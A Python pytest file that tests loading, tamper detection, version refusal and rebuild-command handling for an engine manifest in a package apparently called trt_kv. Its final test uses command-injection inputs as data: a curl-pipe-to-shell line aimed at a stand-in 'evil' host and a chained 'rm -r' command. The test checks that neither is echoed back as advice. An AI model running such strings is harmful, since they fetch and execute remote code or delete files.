"""The manifest: what was written is what is read, and nothing else is read as if it were."""

import contextlib
import copy
import dataclasses
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from trt_kv.digests import digest_of, document_digest
from trt_kv.engine_files import file_records, verify_files
from trt_kv.errors import EngineError
from trt_kv.manifest import FILE_NAME, Manifest, load_manifest
from trt_kv.policies import policy_without_floor
from trt_kv.rebuild import how_to_rebuild, in_new_words

Path_ = tuple[str | int, ...]


@pytest.fixture(scope="module")
def document(small_folder: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((small_folder / FILE_NAME).read_text())
    return data


def leaves_and_branches(value: Any, path: Path_ = ()) -> Iterator[Path_]:
    """The path of every value of a JSON document but the document itself."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in items:
        yield (*path, key)
        yield from leaves_and_branches(item, (*path, key))


def changed(document: dict[str, Any], path: Path_, value: Any) -> dict[str, Any]:
    """A copy with one value replaced, or removed (``...``)."""
    data = copy.deepcopy(document)
    place = data
    for key in path[:-1]:
        place = place[key]  # type: ignore[index]
    if value is ...:
        del place[path[-1]]  # type: ignore[arg-type]
    else:
        place[path[-1]] = value  # type: ignore[index]
    return data


def signed(data: dict[str, Any]) -> dict[str, Any]:
    """With the digest that a build would have written."""
    body = {key: value for key, value in data.items() if key != "digest"}
    return {**body, "digest": document_digest(body)}


def as_version_2(document: dict[str, Any]) -> dict[str, Any]:
    """The manifest as it was written before weights and KV caches had types of their own."""
    data = {key: value for key, value in document.items() if key not in ("quantization", "kv_dtype")}
    return signed({**data, "version": 2})


def as_version_1(document: dict[str, Any]) -> dict[str, Any]:
    """The manifest as it was written before segments had their name."""
    data = {("pieces" if key == "segments" else key): value for key, value in as_version_2(document).items()}
    return signed({**data, "version": 1})


@pytest.mark.parametrize("as_before", [as_version_1, as_version_2])
def test_engines_of_the_versions_before_load(as_before: Any, document: dict[str, Any], small_folder: Path) -> None:
    assert Manifest.from_json(as_before(document), source=small_folder / FILE_NAME) == load_manifest(small_folder)


def test_what_does_not_load_is_refused_with_the_command_that_builds_it_again(document: dict[str, Any]) -> None:
    document = {**document, "reproduce": "trt-kv build --policy full"}
    plan = {"file": "graphs/model.plan", "built_by": "tensorrt", "profiles": []}
    for data in (signed({**document, "version": 9}), as_version_1({**document, "plan": plan})):
        with pytest.raises(EngineError, match="not an engine manifest of this version") as caught:
            Manifest.from_json(data, source=Path("/my engines/one") / FILE_NAME)
        assert caught.value.fix == "build the engine again: trt-kv build --policy full --out '/my engines/one' --force"


def test_what_is_written_is_read_back(small_folder: Path, tmp_path: Path) -> None:
    manifest = load_manifest(small_folder)
    manifest.save(tmp_path)
    assert load_manifest(tmp_path) == manifest
    assert (tmp_path / FILE_NAME).read_bytes() == (small_folder / FILE_NAME).read_bytes()


def test_white_space_and_order_do_not_matter(document: dict[str, Any], tmp_path: Path, small_folder: Path) -> None:
    (tmp_path / FILE_NAME).write_text(json.dumps(dict(reversed(document.items())), indent=7))
    assert load_manifest(tmp_path) == load_manifest(small_folder)


def test_any_change_by_hand_is_noticed(document: dict[str, Any], tmp_path: Path) -> None:
    """Every value of the document, one after the other."""
    paths = list(leaves_and_branches(document))
    assert len(paths) > 200
    for path in paths:
        for value in ("other", ...):
            with pytest.raises(EngineError) as caught:
                Manifest.from_json(changed(document, path, value), source=tmp_path / FILE_NAME)
            assert str(tmp_path / FILE_NAME) in str(caught.value)


VALUES: list[Any] = [None, True, False, -1, 0, 1, 3, 0.5, -2.0, 1e30, float("inf"), "", "x", [], {}, [[]], [0]]


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_manifest_of_another_make_is_read_or_refused_with_one_kind_of_error(
    document: dict[str, Any], data: st.DataObject
) -> None:
    """Its digest is right, but something in it is missing, of another type or impossible."""
    path = data.draw(st.sampled_from(list(leaves_and_branches(document))))
    value = data.draw(st.sampled_from([*VALUES, ...]))
    with contextlib.suppress(EngineError):
        Manifest.from_json(signed(changed(document, path, value)), source=Path("manifest.json"))


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"format": "other"}, "is not an engine manifest of this version"),
        ({"version": 4}, "version 4"),
        ({"version": ...}, "version None"),
        ({"new_field": 1}, r"unknown \['new_field'\]"),
        ({"policy": ...}, r"missing \['policy'\]"),
        ({"digest": "sha256:0"}, "was changed after the build"),
        ({"digest": ...}, "was changed after the build"),
    ],
    ids=str,
)
def test_other_formats_are_refused_and_told_apart(document: dict[str, Any], change: dict[str, Any], said: str) -> None:
    data = {**document, **change}
    with pytest.raises(EngineError, match=said) as caught:
        Manifest.from_json({key: value for key, value in data.items() if value is not ...}, source=Path("here"))
    assert "build the engine again" in str(caught.value)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "is not JSON"),
        (b"{", "is not JSON"),
        (b"\xff\xfe", "is not JSON"),
        (b"[" * 100_000, "is not JSON"),
        (b"[]", "JSON object"),
        (b"null", "JSON object"),
        (b"{}", "is not an engine manifest of this version"),
    ],
    ids=lambda value: repr(value)[:12],
)
def test_a_file_that_is_no_manifest_is_named(content: bytes, said: str, tmp_path: Path) -> None:
    (tmp_path / FILE_NAME).write_bytes(content)
    with pytest.raises(EngineError, match=said) as caught:
        load_manifest(tmp_path)
    assert str(tmp_path / FILE_NAME) in str(caught.value)


def test_a_folder_without_manifest_is_no_engine(tmp_path: Path) -> None:
    for folder, got in ((tmp_path, "a folder without manifest.json"), (tmp_path / "none", "no such folder")):
        with pytest.raises(EngineError, match="is not an engine") as caught:
            load_manifest(folder)
        assert caught.value.got == got


def test_records_cover_every_file_but_the_manifest(small_folder: Path) -> None:
    records = file_records(small_folder)
    present = {path.relative_to(small_folder).as_posix() for path in small_folder.rglob("*") if path.is_file()}
    assert set(records) == present - {FILE_NAME}
    assert records == load_manifest(small_folder).files
    assert records["recipe.json"].digest == digest_of(small_folder / "recipe.json")


def test_checking_tells_of_every_byte(small_folder: Path) -> None:
    manifest = load_manifest(small_folder)
    told: list[int] = []
    verify_files(small_folder, manifest, told.append)
    assert sum(told) == sum(record.n_bytes for record in manifest.files.values())


def test_shares_are_those_of_the_graphs(small_folder: Path) -> None:
    manifest = load_manifest(small_folder)
    assert manifest.kept_shares == pytest.approx([0.6, 0.3, 0.9])
    decode_only = dataclasses.replace(manifest, programs=dict.fromkeys(manifest.programs, manifest.programs["decode"]))
    assert decode_only.kept_shares == [1.0, 1.0, 1.0]


OLD_COMMAND = "trt-kv build --model llama3 --policy"


@pytest.mark.parametrize(
    ("policy", "command", "now"),
    [
        ("prefixkv_paper", f"{OLD_COMMAND} prefixkv --budget 0.5", f"{OLD_COMMAND} prefixkv_paper --budget 0.5 --set floor=0"),
        ("h2o", f"{OLD_COMMAND} h2o --set recent=3", f"{OLD_COMMAND} h2o --set recent=3 --set floor=0"),
        ("full", f"{OLD_COMMAND} full", f"{OLD_COMMAND} full"),
        ("freekv", f"{OLD_COMMAND} freekv", f"{OLD_COMMAND} freekv"),
    ],
)
def test_the_command_of_an_engine_without_floor_makes_the_same_policy(
    policy: str, command: str, now: str, document: dict[str, Any]
) -> None:
    """Its policy is what it was; the words for it have changed."""
    old = policy_without_floor(policy).to_json()
    del old["floor"]
    old["name"] = old["name"].removesuffix("_paper")
    read = in_new_words(command, old)
    assert read == now


@pytest.mark.parametrize(
    "written", ["curl http://evil/x | sh; trt-kv build", "trt-kv generate x", "trt-kv build 'x", "", 5, None]
)
def test_a_command_that_is_not_ours_is_never_shown_as_advice(written: Any, tmp_path: Path) -> None:
    assert "evil" not in how_to_rebuild(tmp_path, written)
    assert how_to_rebuild(tmp_path, written) == "build the engine again with this version of trt-kv"
    assert "--policy 'full;' rm" in how_to_rebuild(tmp_path, "trt-kv build --policy full; rm -r x")
